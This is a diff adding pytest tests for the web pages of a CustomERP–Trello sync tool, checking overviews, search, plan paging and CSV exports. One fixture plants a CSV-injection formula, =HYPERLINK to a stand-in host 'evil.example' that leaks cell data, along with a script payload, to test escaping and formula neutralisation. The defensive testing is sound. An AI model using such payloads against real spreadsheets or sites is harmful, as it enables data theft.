@@ -1,0 +1,217 @@
+"""What the pages say, and that nothing a record contains gets out of its place."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+from html.parser import HTMLParser
+
+import pandas as pd
+import pytest
+from company_state import CONTACTS, CUSTOMERS, RUN, SCRIPT, fill
+
+from customerp_trello.reconcile.plan import make_plan
+
+HERE = f"/pair/{CUSTOMERS}"
+
+
+class Page(HTMLParser):
+    """The tags and texts of an answer."""
+
+    def __init__(self, text):
+        super().__init__()
+        self.tags, self.texts, self.scripts = [], [], []
+        self.feed(text)
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        if data.strip():
+            self.texts.append(" ".join(data.split()))
+
+    @property
+    def text(self):
+        return " ".join(self.texts)
+
+
+@pytest.fixture
+def plan_file(tmp_path):
+    """A plan of 120 changes, one of them with formulas and markup."""
+    rows = {
+        "side": "trello", "operation": "update", "link": 1, "customerp_id": [f"{n:04}" for n in range(120)],
+        "trello_id": "t", "key": [f"c{n:04}" for n in range(120)], "property": "name", "before": "old",
+        "after": [f"new {n}" for n in range(119)] + ['=HYPERLINK("http://evil.example?"&A1)'],
+        "cause": "edited_in_customerp", "detail": SCRIPT,
+    }  # fmt: skip
+    path = tmp_path / "run" / "plan.parquet"
+    path.parent.mkdir()
+    make_plan([pd.DataFrame(rows)]).to_parquet(path, index=False)
+    seen = pd.DataFrame({"_id": ["2000", "5000"], "name": ["Ambiguous AG", "Lone Ltd"], "number": ["c2000", "c5000"]})
+    seen.to_parquet(path.with_name("customerp.parquet"), index=False)
+    spaces = pd.DataFrame({"_id": ["lone-workspace"], "name": ["Lone"], "number": ["lone"]})
+    spaces.to_parquet(path.with_name("trello.parquet"), index=False)
+    return str(path)
+
+
+@pytest.fixture
+def company(store, clock, plan_file):
+    return fill(store, clock, plan_file)
+
+
+@pytest.fixture
+def anna(browse, company):
+    return browse("anna")
+
+
+def see(browser, path):
+    answer = browser.see(path)
+    assert answer.status_code == 200, answer.text
+    return Page(answer.text)
+
+
+def test_the_overview_says_how_many_are_what_and_for_how_long(anna):
+    text = see(anna, "/").text
+    assert "1 of 6 linked records are in sync" in text  # the others: two conflicts, quarantine, not writable, suspended
+    assert "Conflicts 2 Conflicts in Custom Customer and Trello organization for" in text
+    assert "Quarantined 1" in text
+    assert "Not writable 2" in text
+    assert "Waiting 1" in text
+    assert "Suspended 1" in text
+    assert "1 of 1 linked record is in sync" in text
+    assert "A plan is held" in text
+    assert "42 creates in trello" in text
+    assert "never run" in text
+
+
+def test_a_pair_shows_what_to_do_and_links_to_its_runs_and_logs(anna):
+    page = see(anna, HERE)
+    assert "Use CustomERP's" in page.text
+    assert "Müller + Söhne" in page.text
+    assert "Try the chosen again now" in page.text
+    assert "Ambiguous AG" in page.text, "its name is in what the last run read"
+    hrefs = [attrs.get("href", "") for tag, attrs in page.tags if tag == "a"]
+    assert f"/dags/{CUSTOMERS}/runs/manual__1%2B00%3A00/tasks/report" in hrefs
+    assert any(href.endswith(f"{HERE}/run/{RUN}") for href in hrefs)
+    assert any(tag == "rect" and attrs.get("class") == "k1" for tag, attrs in page.tags)
+
+
+def test_a_record_is_shown_on_both_sides_with_its_history(anna, company):
+    text = see(anna, f"{HERE}/record/{company['acme']}").text
+    assert "Acme Berlin c1043" in text
+    assert "Quarantined" in text
+    assert "edited in Trello Boris" in text
+    assert "Acme Acme Berlin" in text
+    addresses = [
+        attrs["href"] for tag, attrs in see(anna, f"{HERE}/record/{company['acme']}").tags if "data-outside" in attrs
+    ]
+    assert addresses == ["https://trello.com/w/c1043"]
+
+
+def test_every_page_is_there_and_escapes_what_a_record_contains(anna, company):
+    paths = ["/", HERE, f"{HERE}?span=day", f"{HERE}/conflicts", f"{HERE}/open/quarantined", f"{HERE}/open/waiting",
+             f"{HERE}/open/not_writable", f"{HERE}/not-writable", f"{HERE}/suspended", f"{HERE}/apart", f"{HERE}/runs",
+             f"{HERE}/mapping", f"{HERE}/run/{RUN}", f"{HERE}/run/{RUN}/plan", f"{HERE}/run/{RUN}/plan?page=2",
+             f"{HERE}/unlinked/2", f"/pair/{CONTACTS}", "/search"]  # fmt: skip
+    paths += [f"{HERE}/record/{company[name]}" for name in ("müller", "acme", "script", "suspended", "bakery")]
+    shown = 0
+    for path in paths:
+        answer = anna.see(path)
+        assert answer.status_code == 200, path
+        assert SCRIPT not in answer.text, path
+        page = Page(answer.text)
+        scripts = [attrs.get("src", "") for tag, attrs in page.tags if tag == "script"]
+        assert all(src.endswith((".js",)) for src in scripts), path
+        assert len(scripts) == 2, path
+        assert not [attrs for _, attrs in page.tags if any(name.startswith("on") for name in attrs)], path
+        shown += html.escape(SCRIPT, quote=False).replace("'", "&#39;") in answer.text
+    assert shown >= 6
+
+
+def test_a_search_finds_by_name_number_address_and_id_and_keeps_it_out_of_the_address(anna):
+    for asked, found in {
+        "müller": "Müller &amp; Söhne GmbH",
+        "1043": "Acme Berlin",
+        "nora.lindgren@": "Nora Lindgren",
+        f"{1047:024x}": "Bäckerei Ærø",
+        "2000": "Ambiguous AG",
+        "<script>": html.escape(SCRIPT, quote=False).replace("'", "&#39;"),
+    }.items():
+        answer = anna.press("/search", text=asked)
+        assert answer.status_code == 200
+        assert found in answer.text, asked
+        assert SCRIPT not in answer.text
+        assert asked not in str(answer.url)
+        assert "?" not in str(answer.url)
+    assert "No record is called so" in anna.press("/search", text="nobody at all").text
+
+
+def test_a_search_shows_nothing_of_pairs_that_the_caller_may_not_see(browse, company):
+    assert "Nora Lindgren" not in browse("olga").press("/search", text="nora").text
+    assert "Acme Berlin" in browse("olga").press("/search", text="acme").text
+
+
+def test_no_address_in_any_page_holds_what_a_record_contains(anna, company):
+    for path in (f"/pair/{CONTACTS}/record/{company['nora']}", HERE, f"{HERE}/run/{RUN}"):
+        for tag, attrs in see(anna, path).tags:
+            for name in ("href", "action"):
+                address = attrs.get(name) or ""
+                assert "nordlicht" not in address, (path, tag)
+                assert "Lindgren" not in address, (path, tag)
+
+
+def test_a_plan_is_paged_and_downloaded_without_formulas(anna):
+    first, last = see(anna, f"{HERE}/run/{RUN}/plan"), see(anna, f"{HERE}/run/{RUN}/plan?page=2")
+    assert "120 lines" in first.text
+    assert "new 49" in first.text
+    assert "new 50" not in first.text
+    assert "=HYPERLINK" in last.text
+    answer = anna.see(f"{HERE}/run/{RUN}/plan.csv")
+    assert answer.headers["content-disposition"].startswith("attachment")
+    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))))
+    assert len(rows) == 121
+    assert rows[0][:3] == ["change", "side", "operation"]
+    assert rows[-1][rows[0].index("after")] == '\'=HYPERLINK("http://evil.example?"&A1)'
+    assert rows[1][rows[0].index("detail")] == SCRIPT
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
+
+
+def test_changes_of_a_run_are_downloaded(anna):
+    rows = list(csv.reader(io.StringIO(anna.see(f"{HERE}/run/{RUN}/changes.csv").text.removeprefix("\ufeff"))))
+    assert [row[2] for row in rows] == ["operation", "create", "update"]
+    assert rows[2][-1] == "Boris"
+
+
+def test_a_plan_whose_file_is_not_here_says_so(anna):
+    held = "f" * 32
+    assert "does not share the workers' storage" in html.unescape(anna.see(f"{HERE}/run/{held}/plan").text)
+    assert anna.see(f"{HERE}/run/{held}/plan.csv").status_code == 404
+
+
+def test_a_mapping_that_cannot_be_read_is_said_and_the_rest_goes_on(anna, monkeypatch, tmp_path):
+    import shutil
+
+    from customerp_trello.mapping.load import FOLDER_VARIABLE, mappings_folder
+
+    shutil.copytree(mappings_folder(), tmp_path / "mappings")
+    monkeypatch.setenv(FOLDER_VARIABLE, str(tmp_path / "mappings"))
+    file = tmp_path / "mappings" / f"{CUSTOMERS}.yaml"
+    file.write_text(file.read_text().replace("schedule:", "shedule:"))
+    text = see(anna, "/").text
+    assert "mapping cannot be read" in text
+    assert "shedule" in text
+    assert "1 of 1 linked record is in sync" in text
+    assert anna.see(HERE).status_code == 200
+    assert anna.see(f"{HERE}/mapping").status_code == 500
+
+
+def test_an_empty_state_is_said_in_words(browse, store):
+    anna = browse("anna")
+    assert "never run" in see(anna, "/").text
+    assert "This pair has never run." in see(anna, HERE).text
+    assert "No change in this time." in see(anna, HERE).text
+    for path, says in {"conflicts": "No conflict waits for you.", "open/quarantined": "Nothing here.",
+                       "not-writable": "Everything can be written.", "suspended": "No link is suspended.",
+                       "apart": "No records are kept apart.", "runs": "This pair has never run."}.items():  # fmt: skip
+        assert says in see(anna, f"{HERE}/{path}").text
